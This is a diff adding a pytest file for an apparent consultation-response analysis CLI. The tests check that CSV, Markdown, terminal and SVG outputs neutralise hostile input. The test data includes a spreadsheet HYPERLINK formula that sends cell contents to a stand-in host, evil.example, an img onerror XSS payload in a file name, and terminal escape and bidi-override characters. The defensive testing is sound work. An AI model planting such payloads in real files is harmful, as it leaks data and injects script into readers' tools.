@@ -1,0 +1,113 @@
+"""What a hostile response or file name puts into an output stays text: no formula, no script, no markup."""
+
+from __future__ import annotations
+
+import csv
+import io
+import xml.dom.minidom
+from pathlib import Path
+
+import pytest
+from typer.testing import CliRunner
+
+from hoering.cli import app
+from hoering.safe import csv_cell, markdown_code, plain
+
+runner = CliRunner()
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik her")'
+
+
+def invoke(*args: object):
+    return runner.invoke(app, [*map(str, args), "--model", "blank"], env={"COLUMNS": "200"})
+
+
+def write(folder: Path, files: dict[str, str]) -> Path:
+    folder.mkdir(parents=True, exist_ok=True)
+    for name, text in files.items():
+        (folder / name).write_text(text, encoding="utf-8")
+    return folder
+
+
+def rows(path: Path) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+45 1234", "-rm", "@SUM(A1)", "\tx", "\rx", HYPERLINK])
+def test_a_cell_that_starts_like_a_formula_gets_a_leading_apostrophe(cell):
+    assert csv_cell(cell) == "'" + cell
+
+
+@pytest.mark.parametrize("cell", ["-3", "+2", "-1.5", "0/+1/0", "Vi støtter", 3])
+def test_numbers_and_ordinary_text_are_left_alone(cell):
+    assert csv_cell(cell) == cell
+
+
+def test_no_csv_output_lets_a_formula_through_and_raw_csv_does(tmp_path):
+    corpus = write(
+        tmp_path / "corpus",
+        {
+            "=cmd.txt": f"---\nbody: FagMED\nround: 2021\n---\n{HYPERLINK}\n\nVi støtter planen.\n",
+            "b.txt": "---\nbody: Sektor MED\nround: 2023\n---\nVi støtter planen.\n",
+        },
+    )
+    out = tmp_path / "ud"
+    assert invoke("analyse", corpus, "-o", out, "-q").exit_code == 0
+    for name in ("positions.csv", "files.csv", "matrix.csv", "matrix_wide.csv"):
+        for row in rows(out / name):
+            assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in row.values()), (name, row)
+    assert any("'" + HYPERLINK in r.values() for r in rows(out / "positions.csv"))  # as the section heading
+    assert {r["path"] for r in rows(out / "files.csv")} == {"'=cmd.txt", "b.txt"}
+    stdout = invoke("analyse", corpus, "-f", "csv", "-q").stdout
+    assert "\n=" not in stdout and ",=" not in stdout
+    assert invoke("diff", corpus, "-o", tmp_path / "diff", "-q").exit_code == 0
+    for path in (tmp_path / "diff").glob("*.csv"):
+        assert not any(v.startswith(("=", "@")) for r in rows(path) for v in r.values())
+    raw = tmp_path / "raw"
+    assert invoke("analyse", corpus, "-o", raw, "-q", "--raw-csv").exit_code == 0
+    assert any(HYPERLINK in r.values() for r in rows(raw / "positions.csv"))
+
+
+def test_a_backtick_in_a_file_name_cannot_leave_its_code_span_in_markdown(tmp_path):
+    name = "x` <img src=x onerror=alert(1)> `.txt"
+    corpus = write(tmp_path / "corpus", {name: "---\nbody: FagMED\n---\nVi støtter planen.\n"})
+    out = tmp_path / "notat.md"
+    assert invoke("report", corpus, "--out", out, "-q").exit_code == 0
+    text = out.read_text(encoding="utf-8")
+    # Inside a code span Markdown shows "<img ...>" as text; the span must hold the whole name.
+    assert "``x` <img src=x onerror=alert(1)> `.txt [" in text
+    assert "<img" not in "".join(_outside_code_spans(text))
+    assert markdown_code("x` y") == "``x` y``"
+
+
+def _outside_code_spans(text: str) -> list[str]:
+    """The stretches of `text` outside inline code spans (CommonMark: a run of n backticks closes only n)."""
+    import re
+
+    return re.split(r"(`+)(?:.*?[^`])\1(?!`)", text)
+
+
+def test_markup_in_a_marker_line_is_shown_as_written_in_the_terminal(tmp_path):
+    corpus = write(
+        tmp_path / "corpus",
+        {"a.txt": "Høringssvar fra Fag[/]MED:\nVi støtter planen [sic] og indsatsen for unge.\n"},
+    )
+    for command in ("analyse", "positions"):
+        run = invoke(command, corpus)
+        assert run.exit_code == 0, run.output
+    assert "[sic]" in invoke("positions", corpus).stdout
+    assert "Fag[/]MED" in invoke("analyse", corpus).stdout
+
+
+def test_escape_sequences_and_bidi_overrides_in_file_names_do_not_reach_the_terminal(tmp_path):
+    corpus = write(tmp_path / "corpus", {"a\x1b[31mrød\u202etxt.md": "", "b.txt": "Vi støtter planen.\n"})
+    run = invoke("analyse", corpus)
+    assert "\x1b[31m" not in run.stderr and "\u202e" not in run.stderr
+    assert "a[31mrødtxt.md" in run.stderr
+    assert plain("Fag\x07MED\u202e\n2") == "FagMED 2"
+
+
+def test_a_control_character_in_a_body_name_keeps_the_svg_valid(tmp_path):
+    corpus = write(tmp_path / "corpus", {"a.txt": "---\nbody: Fag\x01MED\n---\nVi støtter planen for unge.\n"})
+    plot = tmp_path / "kort.svg"
+    assert invoke("analyse", corpus, "--plot", plot, "-q").exit_code == 0
+    xml.dom.minidom.parseString(plot.read_bytes())  # raises on invalid XML
